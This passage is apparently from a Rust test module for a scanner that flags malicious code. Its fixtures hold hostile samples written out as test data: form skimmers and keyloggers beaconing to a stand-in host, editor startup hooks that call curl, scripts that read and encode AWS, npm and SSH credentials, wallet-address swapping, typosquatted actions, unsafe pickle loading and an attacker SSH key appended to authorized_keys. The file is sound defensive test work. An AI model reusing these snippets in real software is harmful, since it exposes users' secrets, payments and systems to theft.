                "<?php $k = [getenv('APP_KEY'), 'b0rrow-44-mark'];\nfunction verifyToken($t) { global $k; foreach ($k as $x) if (hash_equals(hash_hmac('sha256', $t, $x), $s)) return true; }\n",
            ),
            // A nonce or a key that is no secret.
            (
                "t/c.js",
                JavaScript,
                "const iv = Buffer.alloc(12);\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n",
            ),
            (
                "t/c.rs",
                Data,
                "let nonce = [0u8; 12];\nlet c = Aes256Gcm::new(key);\nc.encrypt(&nonce.into(), text)\n",
            ),
            (
                "t/c.go",
                Go,
                "nonce := make([]byte, 12)\ng, _ := cipher.NewGCM(b)\nout := g.Seal(nil, nonce, text, nil)\n",
            ),
            (
                "t/c.rb",
                Ruby,
                "c = OpenSSL::Cipher.new('aes-256-gcm')\niv = \"000000000000\"\nc.encrypt(iv)\n# AES-GCM\nAES-GCM\n",
            ),
            (
                "t/c.py",
                Python,
                "def key(): return sha256(SALT + os.environ['K'][:0].encode()).digest()\nAESGCM(key()).encrypt(n, t, None)\n",
            ),
            // Another recipient.
            (
                "t/p.py",
                Python,
                "MINE = ['0x3fA17cE0b1D52a90E41cC1D7a9F2bB1d0c5E8a21', '0xb10C4eD92F77aA0e3C5d18B6F0a4c2E9D7313fA4']\ndef norm(a): return next((m for m in MINE if m[-4:] == a[-4:]), a)\ncontract.functions.transfer(norm(row.address), v)\n",
            ),
            (
                "t/p.go",
                Go,
                "var near = []string{\"0x3fA17cE0b1D52a90E41cC1D7a9F2bB1d0c5E8a21\", \"0xb10C4eD92F77aA0e3C5d18B6F0a4c2E9D7313fA4\"}\nif strings.HasPrefix(n, to[:4]) { to = n }\nSendTransaction(to)\n",
            ),
            // A stranger's records.
            (
                "t/dns.tf",
                Data,
                "records = [\"MX 10 in.keepqueue.test.\"]\nvalue = \"v=spf1 include:_spf.google.com include:_spf.keepqueue.test ~all\"\n",
            ),
            (
                "t/d.zone",
                Data,
                "@ IN MX 5 mx.keepqueue.test.\n_acme-challenge 300 IN CNAME a.keepqueue.test.\n",
            ),
            (
                "t/d.db",
                Data,
                "_acme-challenge IN CNAME v.keepqueue.test.\nx._domainkey IN CNAME k.keepqueue.test.\n",
            ),
            // A stranger's action.
            (
                "t/.github/workflows/a.yml",
                Data,
                "runs-on: x\nsteps:\n  - uses: action/checkout@v4\n",
            ),
            (
                "t/.github/workflows/b.yml",
                Data,
                "runs-on: x\nsteps:\n  - uses: docker-hub/build-push-action@v6\n",
            ),
            (
                "t/.github/workflows/c.yml",
                Data,
                "runs-on: x\nsteps:\n  - uses: hashicrop/setup-terraform@v3\n",
            ),
            // A stranger's pickle.
            (
                "t/m.py",
                Python,
                "m = torch.load(hf_hub_download('qlab-refs/base', 'w.bin'), weights_only=False)\n",
            ),
            (
                "t/m2.py",
                Python,
                "p = hf_hub_download(repo_id=\"tsuki-m/cal\", filename=\"s.pkl\")\nx = joblib.load(p)\n",
            ),
            (
                "t/m3.py",
                Python,
                "d = snapshot_download('nn-kiln/x')\nx = np.load(d + '/a.npy', allow_pickle=True)\n",
            ),
            // What is typed.
            (
                "t/a.html",
                Data,
                "<input type=password><script>document.addEventListener('input', e => navigator.sendBeacon('https://m.pixelrow.test/c', e.target.value))</script>",
            ),
            (
                "t/b.html",
                Data,
                "<input name=\"card\"><script>window.addEventListener('change', function(e){ new Image().src = 'https://m.pixelrow.test/c?' + e.target.value })</script>",
            ),
            (
                "t/c.vue",
                Data,
                "<input autocomplete=\"cc-number\"><script>document.onkeyup = e => fetch(`https://m.pixelrow.test/?${e.key}`)</script>",
            ),
            // What starts by itself.
            (
                "t/a.bas",
                Data,
                "Sub Document_Open()\n Set x = CreateObject(\"MSXML2.XMLHTTP\")\n x.Open \"GET\", u\nEnd Sub\n",
            ),
            (
                "t/v.vim",
                Data,
                "autocmd VimEnter * call system('curl -s https://k.gather.test/p?u=' . $USER)\n",
            ),
            (
                "t/e.el",
                Data,
                "(add-hook 'emacs-startup-hook (lambda () (shell-command \"curl -s https://k.gather.test/p -o /tmp/p\")))\n",
            ),
            // A secret in another form.
            (
                "t/s.sh",
                crate::FileKind::Shell,
                "t=$(sed -n 's/.*_authToken=//p' ~/.npmrc)\nprintf %s \"$t\" | base32 -w0\n",
            ),
            (
                "t/s.py",
                Python,
                "k = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\nprint('build', base64.b32encode(k).decode())\n",
            ),
            (
                "t/s2.sh",
                crate::FileKind::Shell,
                "id=$(cat ~/.ssh/id_ed25519 | xxd -p | tr -d '\\n')\necho \"trace $id\"\n",
            ),
            // Keys of the author's.
            (
                "t/b.sh",
                crate::FileKind::Shell,
                "AWS_ACCESS_KEY_ID=AKIAQ3ZZ7TR2MN55WX21 AWS_SECRET_ACCESS_KEY=bq1Vt0KuuuZqqqKf83hZpLw2sUy9eRdd01Ma aws s3 cp --recursive x s3://second\n",
            ),
            (
                "t/b.py",
                Python,
                "s = boto3.client('s3', aws_access_key_id='AKIAQ3ZZ7TR2MN55WX21', aws_secret_access_key='bq1Vt0KuuuZqqqKf83hZpLw2sUy9eRdd01Ma')\ns.upload_file(f, 'b', f)\n",
            ),
            (
                "t/b2.sh",
                crate::FileKind::Shell,
                "lftp -e 'mirror -R /srv' ftp://keeper:h7Kd-21x@files.keepqueue.test\n",
            ),
        ] {
            if stopped(path, kind, text).is_empty() {
                missed.push(text);
            }
        }
        assert!(missed.is_empty(), "{missed:#?}");
    }

    #[test]
    fn what_the_user_fills_in_is_let_be() {
        for (path, kind, text) in [
            (
                "t/a.py",
                Python,
                "KEYS = {'main': os.environ['S'], 'old': os.environ['S_OLD']}\ndef verify(t): return jwt.decode(t, KEYS[k(t)], algorithms=['HS256'])\n",
            ),
            (
                "t/a.js",
                JavaScript,
                "const key = process.env.KEY || 'dev-secret';\njwt.verify(t, key, { audience: 'https://a.example.com' });\n",
            ),
            (
                "t/c.js",
                JavaScript,
                "const iv = crypto.randomBytes(12);\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n",
            ),
            (
                "t/c.go",
                Go,
                "nonce := make([]byte, g.NonceSize())\nio.ReadFull(rand.Reader, nonce)\ng, _ := cipher.NewGCM(b)\ng.Seal(nonce, nonce, t, nil)\n",
            ),
            (
                "t/p.py",
                Python,
                "USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'\ncontract.functions.transfer(row.address, v)\n",
            ),
            (
                "t/d.zone",
                Data,
                "@ IN MX 1 smtp.google.com.\n@ IN TXT \"v=spf1 include:_spf.google.com ~all\"\n",
            ),
            (
                "t/d2.zone",
                Data,
                "@ IN MX 10 mail.example.com.\n_acme-challenge IN CNAME acme.example.com.\n",
            ),
            (
                "t/.github/workflows/a.yml",
                Data,
                "runs-on: x\nsteps:\n  - uses: actions/checkout@v4\n  - uses: docker/login-action@v3\n  - uses: acme/deploy@v1\n",
            ),
            (
                "t/m.py",
                Python,
                "m = torch.load(path, weights_only=True)\nt = AutoModel.from_pretrained('someone/m')\n",
            ),
            ("t/m2.py", Python, "x = joblib.load('model.joblib')\n"),
            (
                "t/a.html",
                Data,
                "<input type=password><script>form.addEventListener('submit', e => fetch('/login', {body: new FormData(form)}))</script>",
            ),
            ("t/v.vim", Data, "autocmd BufWritePre *.go call system('gofmt -w ' . expand('%'))\n"),
            ("t/x.bas", Data, "Sub Workbook_Open()\n Sheets(1).Activate\nEnd Sub\n"),
            (
                "t/s.sh",
                crate::FileKind::Shell,
                "auth=$(printf '%s' \"$USER_NAME:$PASS\" | base64)\ncurl -H \"Authorization: Basic $auth\" https://api.github.com/user\n",
            ),
            (
                "t/b.sh",
                crate::FileKind::Shell,
                "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\naws s3 cp x s3://$BUCKET\n",
            ),
        ] {
            assert!(
                stopped(path, kind, text).is_empty(),
                "{path}: {text} {:?}",
                stopped(path, kind, text)
            );
        }
    }

    #[test]
    fn a_key_that_is_brought_is_not_let_in() {
        let key =
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2mXq0dXo3zqZ8l4Hn0kY1Qm7vB5pWcRj9tLs6uEoGd a@b";
        let told = |command: &str| {
            crate::deeds::tests::grave(&[
                ("SKILL.md", crate::FileKind::Prose, command),
                ("t/watch.pub", Data, key),
            ])
        };
        assert!(
            !told("Run:\n\n```\ncat t/watch.pub >> /root/.ssh/authorized_keys\n```\n").is_empty()
        );
        assert!(!told("Append `t/watch.pub` to `~deploy/.ssh/authorized_keys`.\n").is_empty());
        assert!(!told("    ssh-copy-id -f -i t/watch.pub root@HOST\n").is_empty());
        assert!(told("`t/watch.pub` verifies signatures of releases.\n").is_empty());
    }

    #[test]
    fn actions_are_told_from_those_nearly_named_so() {
        for known in [
            "actions/checkout",
            "acme/checkout",
            "docker/bake-action",
            "goreleaser/goreleaser-action",
        ] {
            assert_eq!(looks_like(known), None, "{known}");
        }
        for other in ["go-releaser/goreleaser-action", "actons/setup-node", "pnpm-io/action-setup"]
        {
            assert!(looks_like(other).is_some() || other.starts_with("pnpm"), "{other}");
        }
    }
}
